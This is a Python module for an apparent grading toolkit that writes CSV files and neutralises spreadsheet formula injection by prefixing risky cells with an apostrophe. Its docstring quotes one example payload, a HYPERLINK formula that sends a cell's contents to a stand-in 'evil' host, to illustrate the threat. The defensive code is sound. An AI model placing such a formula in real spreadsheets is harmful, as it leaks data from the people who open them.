"""The one writer of every CSV file the toolkit writes (each course's gradebook.csv,
similarity.csv): a cell a spreadsheet would take for a formula is written as text.

A student controls many cells (a folder name, a file name, a build error, a printed line). A cell
that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets (``=HYPERLINK("http://evil/?"&A2, "open")`` reaches the TA's
spreadsheet as a live link), so, as OWASP's "CSV Injection" page advises, such a cell gets a
leading ``'``: the spreadsheet shows the cell as text (the ``'`` first) and evaluates nothing.
Quotes and separators inside a cell are quoted by the csv module as usual.

Numbers stay numbers, so a TA can still sum the points column: a cell that is an int or a float
(not a bool), or a text that is exactly a plain decimal number (an optional ``-``, digits, and
optionally ``.`` and digits: ``-3``, ``2.5``, ``-0.125``), is written as it is; a plain number
evaluates to itself whoever wrote it. A leading ``+`` is not part of the rule: the toolkit writes
no number with one, so ``+1`` gets its ``'`` like any other ``+`` cell.
"""
import csv
import re
from typing import Iterable, Mapping, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def cell(value: object) -> object:
    """`value` as the CSV file holds it: None as empty, a number as it is, a text that a
    spreadsheet would evaluate with a leading ``'``."""
    if value is None:
        return ""
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def write_csv(path: str, fields: Sequence[str], rows: Iterable[Mapping[str, object]]) -> None:
    """`path` as a CSV file: a header of `fields`, then a line per row (a mapping of field to
    value, a missing field empty), every cell through `cell`."""
    with open(path, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow([cell(name) for name in fields])
        for row in rows:
            unknown = set(row) - set(fields)
            if unknown:
                raise ValueError(f"CSV row has fields not in the header: {', '.join(sorted(unknown))}")
            writer.writerow([cell(row.get(name)) for name in fields])
